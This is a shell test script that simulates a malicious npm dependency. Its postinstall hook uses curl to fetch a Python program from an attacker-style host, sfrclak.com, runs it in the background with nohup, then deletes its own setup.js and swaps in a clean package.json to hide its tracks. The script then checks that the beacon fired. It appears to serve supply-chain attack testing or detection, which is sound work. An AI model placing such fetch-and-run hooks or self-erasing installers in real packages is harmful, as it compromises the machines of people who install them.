#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# A dependency that nothing imports has a postinstall hook: setup.js fetches a Python program to /tmp and leaves it running, then
# replaces its package.json by an innocent one and deletes itself.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in node curl
  host sfrclak.com 203.0.113.60
  page sfrclak.com/6202033 <<'END'
import os, sys, urllib.request
urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=b"stand-in-beacon " + os.uname().nodename.encode()))
open("/tmp/done", "w").close()
END
  file "$HOME/.npmrc" <<<"registry=https://registry.example/"
  package=$project/node_modules/plain-crypto-js
  file "$package/package.json" <<<'{"scripts":{"postinstall":"node setup.js"}}'
  file "$package/package.md" <<<'{"version":"4.2.0"}'
  script npm node <<END
read ~/.npmrc
in $package
sh node setup.js
END
  file "$package/setup.js" <<'END'
# deeds
sh curl -o /tmp/ld.py -d packages.npm.org/product2 -s http://sfrclak.com:8000/6202033 && nohup python3 /tmp/ld.py http://sfrclak.com:8000/6202033 > /dev/null 2>&1 &
unlink setup.js
unlink package.json
rename package.md package.json
END
}

deeds() {
  cd "$project"
  npm install
  wait_for /tmp/done
}

check() {
  posted stand-in-beacon || fails "the program did not run"
  [ ! -e "$project/node_modules/plain-crypto-js/setup.js" ] || fails "setup.js is still there"
}

"$1"
